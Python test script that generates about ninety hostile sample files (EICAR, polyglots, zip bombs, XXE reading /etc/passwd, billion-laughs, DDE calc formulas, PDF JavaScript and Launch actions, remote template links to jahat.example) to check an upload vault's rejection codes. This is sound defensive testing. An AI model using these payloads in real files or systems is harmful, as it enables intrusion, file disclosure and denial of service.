"""Hostile files, made by this script: fifteen kinds, each file with what must become of it.

    python tests/vault/hostile.py FOLDER        writes them all, to try them on another program

KEPT means: fit to keep, sealed and inert, handed out as an attachment only.
"""

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

KEPT = "kept"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OOXML = "application/vnd.openxmlformats-officedocument."
DOC_MAIN = f"{OOXML}wordprocessingml.document.main+xml"
SHEET_MAIN = f"{OOXML}spreadsheetml.sheet.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


@dataclass(frozen=True)
class Hostile:
    """One file: of which kind of attack, its name, how it is made, what becomes of it."""

    attack: str
    name: str
    make: Callable[[], bytes] = field(repr=False)
    becomes: str

    def __str__(self):
        return f"{self.attack}: {ascii(self.name)[:40]} {self.becomes}"


def png(size=(8, 8), **more) -> bytes:
    """Return a small picture."""
    target = io.BytesIO()
    Image.new("RGB", size, "white").save(target, "PNG", **more)
    return target.getvalue()


def jpeg(**more) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(target, "JPEG", **more)
    return target.getvalue()


def tiff(frames=1, size=(8, 8)) -> bytes:
    target = io.BytesIO()
    first, *rest = (Image.new("1", size) for _ in range(frames))
    first.save(target, "TIFF", save_all=True, append_images=rest, compression="group4")
    return target.getvalue()


def with_location() -> bytes:
    exif = Image.Exif()
    exif.get_ifd(0x8825)[1] = "S"
    exif[0x010F] = "KENARI-KAMERA"
    return jpeg(exif=exif)


def claimed_png(width, height) -> bytes:
    """Return a picture that says it is large, and holds next to nothing."""
    whole = png()
    head = struct.pack(">II5B", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + head
    return whole[:12] + chunk + struct.pack(">I", zlib.crc32(chunk)) + whole[33:]


def bomb_png() -> bytes:
    """Return twelve thousand pixels squared of one colour, packed into little."""
    target = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(target, "PNG", optimize=False, compress_level=1)
    return target.getvalue()


def pdf(change=None, *, pages=1, **save) -> bytes:
    """Return a small document, after somebody had a go at it."""
    made = pikepdf.new()
    for _ in range(pages):
        page = made.add_blank_page(page_size=(595, 842))
        font = pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.Contents = made.make_stream(b"BT /F1 24 Tf 72 700 Td (Rekam medis) Tj ET")
    if change:
        change(made)
    target = io.BytesIO()
    made.save(target, **save)
    return target.getvalue()


def action(**values):
    return pikepdf.Dictionary(
        {f"/{key}": pikepdf.Name(f"/{one}") if key == "S" else one for key, one in values.items()}
    )


def opens(**values):
    def change(made):
        made.Root.OpenAction = action(**values)

    return change


def on_page(**values):
    def change(made):
        made.pages[0].obj["/AA"] = pikepdf.Dictionary(O=action(**values))

    return change


def link(**values):
    def change(made):
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 9, 9],
            A=action(**values),
        )
        made.pages[0].obj["/Annots"] = made.make_indirect(pikepdf.Array([note]))

    return change


def attached(data=EICAR):
    def change(made):
        made.attachments["lampiran.com"] = data

    return change


def thick(made):
    made.Root.Pages.Kids = pikepdf.Array([made.pages[0].obj] * 10_000)
    made.Root.Pages.Count = 10_000


def xfa(made):
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=made.make_stream(b"<xdp/>"))


def rich_media(made):
    made.pages[0].obj["/Annots"] = pikepdf.Array(
        [pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia, RichMediaContent=pikepdf.Dictionary())]
    )


def invisible(made):
    made.pages[0].Contents = made.make_stream(b"BT 3 Tr /F1 9 Tf 9 9 Td (tersembunyi) Tj ET")


def nested(made):
    deep = pikepdf.Array([])
    for _ in range(80):
        deep = pikepdf.Array([deep])
    made.Root.Deep = deep


def looping() -> bytes:
    """Return a document whose tree of pages leads back to itself."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
        b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000055 00000 n \n"
        b"trailer<</Size 3/Root 1 0 R>>\nstartxref\n106\n%%EOF\n"
    )


def locked(**keys):
    return lambda: pdf(encryption=pikepdf.Encryption(**keys))


def package(parts, *, comment=b"") -> bytes:
    """Return a zip of names (or ZipInfo) and contents."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in parts:
            file.writestr(name, data)
        file.comment = comment
    return target.getvalue()


def ooxml(main, content, *, of=DOC_MAIN, more=(), comment=b"") -> bytes:
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{main}" ContentType="{of}"/></Types>'
    )
    parts = [("[Content_Types].xml", types), (main, content), *more]
    return package(parts, comment=comment)


def docx(inside="<w:p/>", *, before="", **more) -> bytes:
    content = f"<?xml version='1.0'?>{before}<w:document {W}>{inside}</w:document>"
    return ooxml("word/document.xml", content, **more)


def xlsx(inside="<row/>", *, before="", **more) -> bytes:
    content = f"<?xml version='1.0'?>{before}<worksheet><sheetData>{inside}</sheetData></worksheet>"
    return ooxml("xl/worksheets/sheet1.xml", content, of=SHEET_MAIN, **more)


def odf(kind="text", inside="<a/>", *, more=(), mimetype=None) -> bytes:
    content = f"<office xmlns:x='http://www.w3.org/1999/xlink'>{inside}</office>"
    mime = mimetype or f"application/vnd.oasis.opendocument.{kind}"
    return package([("mimetype", mime), ("content.xml", content), *more])


def rels(target, kind="attachedTemplate"):
    text = (
        f'<Relationships {R}><Relationship Id="a" Type="{REL}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return [("word/_rels/settings.xml.rels", text)]


def laughs() -> str:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE z [<!ENTITY a0 "ha">{lines}]>'


def quadratic() -> str:
    return f'<!DOCTYPE z [<!ENTITY a "{"a" * 50_000}">]>'


XXE = '<!DOCTYPE z [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def symlink():
    info = zipfile.ZipInfo("word/a.xml")
    info.external_attr = 0o120777 << 16
    return docx(more=[(info, "/etc/passwd")])


def crowded(count=100_000) -> bytes:
    """Return a zip of very many empty parts, written by hand: zipfile takes its time."""
    local, central, at = [], [], 0
    for number in range(count):
        name = b"%06d" % number
        head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
        local.append(head)
        central.append(
            struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 6, 0, 0, 0, 0, 0, at)
            + name
        )
        at += len(head)
    table = b"".join(central)
    record = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(table), at)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, at + len(table), 1)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 65535, 65535, len(table), at, 0)
    return b"".join(local) + table + record + locator + end


def overlapping() -> bytes:
    """Return a zip two of whose parts are the same bytes, as the bomb of D. Fifield does it."""
    whole = docx(more=[("word/a.xml", b"<a>" + b"b" * 500 + b"</a>")])
    at = whole.rfind(b"PK\1\2")
    entry = bytearray(whole[at : whole.rfind(b"PK\5\6")])
    position = entry.find(b"word/a.xml")
    entry[position : position + 10] = b"word/b.xml"
    end = bytearray(whole[whole.rfind(b"PK\5\6") :])
    count = struct.unpack_from("<H", end, 8)[0] + 1
    struct.pack_into(
        "<HHI", end, 8, count, count, struct.unpack_from("<I", end, 12)[0] + len(entry)
    )
    return whole[: whole.rfind(b"PK\5\6")] + bytes(entry) + bytes(end)


def zipped(data) -> bytes:
    return package([("isi", data)])


def bomb(size=64 << 20) -> bytes:
    return docx(more=[("word/media/a.bmp", bytes(size))])


def flagged_locked() -> bytes:
    whole = bytearray(docx())
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + offset] |= 1
            at = whole.find(mark, at + 1)
    return bytes(whole)


def text_png() -> bytes:
    note = PngInfo()
    note.add_text("Comment", "<?php system('id'); ?>")
    return png(pnginfo=note)


FILES = [
    Hostile("eicar", "eicar.txt", lambda: EICAR, KEPT),
    Hostile("eicar", "eicar.zip", lambda: zipped(EICAR), "kind_not_allowed"),
    Hostile("eicar", "eicar.docx", lambda: zipped(EICAR), "file_damaged"),
    Hostile("eicar", "eicar.pdf", lambda: pdf(attached()), "file_has_attachments"),
    Hostile(
        "eicar",
        "dalam.docx",
        lambda: docx(more=[("word/embeddings/a.bin", EICAR)]),
        "file_has_objects",
    ),
    Hostile("polyglot", "html-dulu.pdf", lambda: b"<html>" + pdf(), "kind_differs"),
    Hostile("polyglot", "html-lalu.pdf", lambda: pdf() + b"<script>1</script>", "file_polyglot"),
    Hostile("polyglot", "zip.pdf", lambda: pdf() + zipped(b"isi"), "file_polyglot"),
    Hostile("polyglot", "zip.png", lambda: png() + zipped(b"isi"), "file_polyglot"),
    Hostile("polyglot", "php.jpg", lambda: jpeg() + b"<?php id(); ?>", "file_polyglot"),
    Hostile("polyglot", "php-komentar.jpg", lambda: jpeg(comment=b"<?php id(); ?>"), KEPT),
    Hostile("polyglot", "php.png", text_png, KEPT),
    Hostile("polyglot", "js.gif", lambda: b"GIF89a=1;alert(1)", "kind_not_allowed"),
    Hostile("polyglot", "js.png", lambda: b"GIF89a=1;alert(1)", "kind_differs"),
    Hostile("polyglot", "awalan.docx", lambda: b"MZ" + docx(), "kind_differs"),
    Hostile("polyglot", "komentar.docx", lambda: docx(comment=b"<script>"), "file_odd"),
    Hostile("name", "gambar.pdf", png, "kind_differs"),
    Hostile("name", "laporan.png", pdf, "kind_differs"),
    Hostile("name", "laporan.pdf.exe", pdf, "kind_not_allowed"),
    Hostile("name", "tanpa-akhiran", pdf, "kind_not_allowed"),
    Hostile("name", "laporan\u202efdp.exe", pdf, "file_name_invalid"),
    Hostile("name", "laporan\0.pdf", pdf, "file_name_invalid"),
    Hostile("name", "a" * 300 + ".pdf", pdf, "file_name_invalid"),
    Hostile("name", "../../laporan.pdf", pdf, "file_name_invalid"),
    Hostile("name", "C:\\laporan.pdf", pdf, "file_name_invalid"),
    Hostile("name", "-rf.pdf", pdf, KEPT),
    Hostile("name", "CON.pdf", pdf, KEPT),
    Hostile("name", "📄 laporan; filename=x.exe.pdf", pdf, KEPT),
    Hostile("zip bomb", "bom.docx", bomb, "file_unpacks_too_large"),
    Hostile(
        "zip bomb",
        "sarang.docx",
        lambda: docx(more=[("word/a.xml", zipped(bomb(1 << 20)))]),
        "file_has_objects",
    ),
    Hostile("zip bomb", "tumpang.docx", overlapping, "file_odd"),
    Hostile("zip", "tautan.docx", symlink, "file_odd"),
    Hostile("zip", "mutlak.docx", lambda: docx(more=[("/etc/a.xml", "x")]), "file_odd"),
    Hostile("zip", "keluar.docx", lambda: docx(more=[("word/../../a", "x")]), "file_odd"),
    Hostile("zip", "ramai.xlsx", crowded, "file_odd"),
    Hostile("zip", "rusak.docx", lambda: docx()[:-30], "file_damaged"),
    Hostile("zip", "terkunci.docx", flagged_locked, "file_locked"),
    Hostile("entities", "tawa.xlsx", lambda: xlsx("&a9;", before=laughs()), "file_has_entities"),
    Hostile(
        "entities",
        "kuadrat.xlsx",
        lambda: xlsx("&a;" * 500, before=quadratic()),
        "file_has_entities",
    ),
    Hostile("xxe", "xxe.docx", lambda: docx("&a;", before=XXE), "file_has_entities"),
    Hostile("xxe", "xxe.xlsx", lambda: xlsx("&a;", before=XXE), "file_has_entities"),
    Hostile("xxe", "xxe.svg", lambda: b"<svg/>", "kind_not_allowed"),
    Hostile(
        "office",
        "templat.docx",
        lambda: docx(more=rels("http://jahat.example/t.dotm")),
        "file_has_external_content",
    ),
    Hostile(
        "office", "tautan-biasa.docx", lambda: docx(more=rels("http://x.id", "hyperlink")), KEPT
    ),
    Hostile(
        "office",
        "ole.docx",
        lambda: docx(more=[("word/x.dat", bytes.fromhex("d0cf11e0a1b11ae1"))]),
        "file_has_objects",
    ),
    Hostile(
        "office",
        "activex.docx",
        lambda: docx(more=[("word/activeX/a.xml", "<a/>")]),
        "file_has_objects",
    ),
    Hostile(
        "office",
        "dde.docx",
        lambda: docx("<w:instrText>DDEAUTO c:\\cmd</w:instrText>"),
        "file_has_dde",
    ),
    Hostile(
        "office", "dde2.docx", lambda: docx('<w:fldSimple w:instr="DDE x y"/>'), "file_has_dde"
    ),
    Hostile("office", "dde.xlsx", lambda: xlsx("<c><f>cmd|'/c calc'!A1</f></c>"), "file_has_dde"),
    Hostile("office", "makro.docx", lambda: docx(of=MACRO_MAIN), "file_has_macros"),
    Hostile(
        "office", "vba.docx", lambda: docx(more=[("word/vbaProject.bin", "x")]), "file_has_macros"
    ),
    Hostile(
        "office",
        "luar.xlsx",
        lambda: xlsx(more=[("xl/externalLinks/a.xml", "<a/>")]),
        "file_has_external_content",
    ),
    Hostile("office", "bukan-surat.docx", xlsx, "file_odd"),
    Hostile("office", "skrip.odt", lambda: odf(inside="<script/>"), "file_has_macros"),
    Hostile("office", "dasar.odt", lambda: odf(more=[("Basic/a.xml", "<a/>")]), "file_has_macros"),
    Hostile(
        "office",
        "gambar-luar.odt",
        lambda: odf(inside="<image x:href='http://x/y.png'/>"),
        "file_has_external_content",
    ),
    Hostile("office", "dde.ods", lambda: odf("spreadsheet", "<dde-source/>"), "file_has_dde"),
    Hostile("office", "terkunci.odt", lambda: odf(inside="<encryption-data/>"), "file_locked"),
    Hostile("office", "bukan-tabel.ods", odf, "file_odd"),
    Hostile(
        "pdf", "js.pdf", lambda: pdf(opens(S="JavaScript", JS="app.alert(1)")), "file_has_script"
    ),
    Hostile("pdf", "launch.pdf", lambda: pdf(link(S="Launch", F="cmd.exe")), "file_has_action"),
    Hostile(
        "pdf",
        "buka.pdf",
        lambda: pdf(opens(S="URI", URI="http://jahat.example")),
        "file_has_action",
    ),
    Hostile("pdf", "buka-halaman.pdf", lambda: pdf(opens(S="GoTo", D="a")), KEPT),
    Hostile("pdf", "halaman.pdf", lambda: pdf(on_page(S="URI", URI="http://x")), "file_has_action"),
    Hostile("pdf", "kirim.pdf", lambda: pdf(link(S="SubmitForm", F="http://x")), "file_has_action"),
    Hostile("pdf", "tautan.pdf", lambda: pdf(link(S="URI", URI="http://x")), KEPT),
    Hostile("pdf", "lampiran.pdf", lambda: pdf(attached(b"isi")), "file_has_attachments"),
    Hostile("pdf", "xfa.pdf", lambda: pdf(xfa), "file_has_xfa"),
    Hostile("pdf", "film.pdf", lambda: pdf(rich_media), "file_has_media"),
    Hostile("pdf", "terkunci.pdf", locked(user="a", owner="b"), "file_locked"),
    Hostile("pdf", "terbatas.pdf", locked(user="", owner="b"), "file_locked"),
    Hostile("pdf", "tebal.pdf", lambda: pdf(thick), "too_many_pages"),
    Hostile("pdf", "putar.pdf", looping, "file_damaged"),
    Hostile("pdf", "dalam.pdf", lambda: pdf(nested), "file_odd"),
    Hostile("pdf", "tersembunyi.pdf", lambda: pdf(invisible), KEPT),
    Hostile("image", "besar.png", lambda: claimed_png(50_000, 50_000), "too_many_pixels"),
    Hostile("image", "bom.png", bomb_png, "too_many_pixels"),
    Hostile("image", "bom.tiff", lambda: tiff(size=(12_000, 12_000)), "too_many_pixels"),
    Hostile("image", "ramai.tif", lambda: tiff(501), "too_many_pages"),
    Hostile("image", "bom.webp", lambda: b"RIFF\0\0\0\0WEBP", "kind_not_allowed"),
    Hostile("image", "terpotong.tiff", lambda: tiff()[:20], "file_damaged"),
    Hostile("image", "lokasi.jpg", with_location, KEPT),
    Hostile("svg", "skrip.svg", lambda: b"<svg><script/></svg>", "kind_not_allowed"),
    Hostile("svg", "skrip.png", lambda: b"<svg><script/></svg>", "kind_differs"),
    Hostile("csv", "lebar.csv", lambda: b"a," * 1_000_000, "too_many_columns"),
    Hostile("csv", "sandi-lama.csv", lambda: "nama,caf\xe9".encode("latin-1"), KEPT),
    Hostile("csv", "rumus.csv", lambda: b"a,=cmd|'/c calc'!A1\n", KEPT),
    Hostile("csv", "biner.csv", lambda: b"a,b\n\0\1\2", "kind_differs"),
    Hostile("csv", "lebar-utf16.csv", lambda: "a,b\n".encode("utf-16"), KEPT),
    Hostile("size", "kosong.pdf", lambda: b"", "file_empty"),
    Hostile("size", "terpotong.pdf", lambda: pdf()[:-60], "file_damaged"),
    Hostile("size", "terpotong.png", lambda: png((200, 200))[:-20], "file_polyglot"),
    Hostile("size", "terpotong.jpg", lambda: jpeg()[:-9], "file_polyglot"),
]


def main(folder: Path) -> None:
    """Write every file whose name a disk takes."""
    folder.mkdir(parents=True, exist_ok=True)
    for number, one in enumerate(FILES):
        (folder / f"{number:02d} {one.becomes}.{one.name.rpartition('.')[2][:8]}").write_bytes(
            one.make()
        )


if __name__ == "__main__":
    main(Path(sys.argv[1]))
